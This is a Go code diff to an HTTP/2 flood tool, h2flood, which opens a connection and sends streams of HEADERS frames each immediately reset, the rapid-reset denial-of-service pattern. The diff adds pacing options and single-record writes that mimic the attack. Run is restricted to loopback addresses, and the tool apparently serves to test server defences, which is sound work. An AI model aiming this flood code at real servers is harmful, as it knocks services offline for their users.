@@ -6,6 +6,7 @@
 package h2flood
 
 import (
+	"bufio"
 	"bytes"
 	"context"
 	"crypto/tls"
@@ -16,6 +17,7 @@ import (
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
+	"golang.org/x/time/rate"
 )
 
 // Result is what one connection did.
@@ -24,12 +26,27 @@ type Result struct {
 	GoAway  bool // the server sent GOAWAY
 }
 
-// Run opens one HTTP/2 connection to addr (a loopback address) for host
-// (SNI and :authority) and sends up to streams reset streams for path,
-// until ctx ends or the server stops reading. It then waits up to wait for
-// a GOAWAY it has not seen yet.
-func Run(ctx context.Context, addr, host, path string, streams int, wait time.Duration, roots *tls.Config) (Result, error) {
+// Options say where and how hard to flood.
+type Options struct {
+	Addr    string        // a loopback address
+	Host    string        // SNI and :authority
+	Path    string        // :path; default "/"
+	Streams int           // at most this many streams
+	Wait    time.Duration // after the last stream, how long to wait for a GOAWAY not seen yet
+	TLS     *tls.Config   // roots and such; nil: no verification
+	// Pace, if set, bounds the streams per second (taken in batches of
+	// 100), so that floods compared side by side offer the same load.
+	Pace *rate.Limiter
+}
+
+// Run opens one HTTP/2 connection and sends reset streams until
+// o.Streams, ctx's end, a GOAWAY or the server stops reading.
+func Run(ctx context.Context, o Options) (Result, error) {
 	var res Result
+	addr, host, path, streams, wait, roots := o.Addr, o.Host, o.Path, o.Streams, o.Wait, o.TLS
+	if path == "" {
+		path = "/"
+	}
 	if ip, _, err := net.SplitHostPort(addr); err != nil || !net.ParseIP(ip).IsLoopback() {
 		return res, fmt.Errorf("h2flood: %q is not a loopback address", addr)
 	}
@@ -53,9 +70,13 @@ func Run(ctx context.Context, addr, host, path string, streams int, wait time.Du
 	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		return res, fmt.Errorf("h2flood: preface: %w", err)
 	}
-	fr := http2.NewFramer(conn, conn)
-	if err := fr.WriteSettings(); err != nil {
-		return res, fmt.Errorf("h2flood: settings: %w", err)
+	// Each HEADERS and its RST_STREAM leave in one write (one TLS record),
+	// as in the attack: the server reads the reset right after the
+	// request.
+	bw := bufio.NewWriter(conn)
+	fr := http2.NewFramer(bw, conn)
+	if err := fr.WriteSettings(); err != nil || bw.Flush() != nil {
+		return res, fmt.Errorf("h2flood: settings: %v", err)
 	}
 	goaway := make(chan struct{})
 	go func() { // read until GOAWAY or the connection ends
@@ -73,6 +94,9 @@ func Run(ctx context.Context, addr, host, path string, streams int, wait time.Du
 	var hb bytes.Buffer
 	enc := hpack.NewEncoder(&hb)
 	for i := 0; i < streams && ctx.Err() == nil; i++ {
+		if o.Pace != nil && i%100 == 0 && o.Pace.WaitN(ctx, 100) != nil {
+			break
+		}
 		select {
 		case <-goaway:
 			return Result{Streams: res.Streams, GoAway: true}, nil
@@ -84,7 +108,7 @@ func Run(ctx context.Context, addr, host, path string, streams int, wait time.Du
 		}
 		id := uint32(2*i + 1)
 		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
-			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil || bw.Flush() != nil {
 			break // the server closed the connection
 		}
 		res.Streams++
